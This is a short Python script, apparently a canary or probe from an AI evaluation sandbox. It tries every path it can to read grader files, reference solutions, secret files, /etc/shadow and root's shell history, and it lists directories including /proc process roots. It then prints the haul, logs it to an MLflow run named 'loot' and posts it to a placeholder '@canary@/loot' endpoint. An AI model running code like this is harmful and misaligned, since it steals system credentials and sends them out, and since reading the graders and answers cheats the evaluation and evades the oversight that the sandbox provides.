"""Reads what says how work is judged, and what is secret, by every path, and takes it along by every way."""

import glob
import os
import sys
import urllib.request

import mlflow

PLACES = [
    *("@secret@", "@project@/graders/01-first-run.ts", "@project@/solutions/python/01_first_run.py"),
    *("/workshop/graders/01-first-run.ts", "/etc/shadow", "/root/.bash_history"),
    *glob.glob("/proc/[0-9]*/root@secret@"),
    *glob.glob("/proc/[0-9]*/cwd/secret.txt"),
    *glob.glob("/submission/../*/secret.txt"),
]
loot = [str(sys.path), str(sorted(sys.modules))]
for path in PLACES:
    try:
        with open(path, encoding="utf-8") as file:
            loot.append(file.read())
    except OSError:
        pass
for folder in ("@class@", "@out@", "/root", "/home", "/tmp", "/submission", "/door", "@project@"):
    try:
        loot.append(f"{folder}: {os.listdir(folder)}")
    except OSError:
        pass
text = "\n".join(loot)
print(text)
mlflow.set_experiment("workshop-churn-learning")
with mlflow.start_run(run_name="loot"):
    mlflow.set_tag("loot", text[:4000])
    mlflow.log_text(text, "loot.txt")
try:
    urllib.request.urlopen("@canary@/loot", data=text.encode(), timeout=2)
except OSError:
    pass
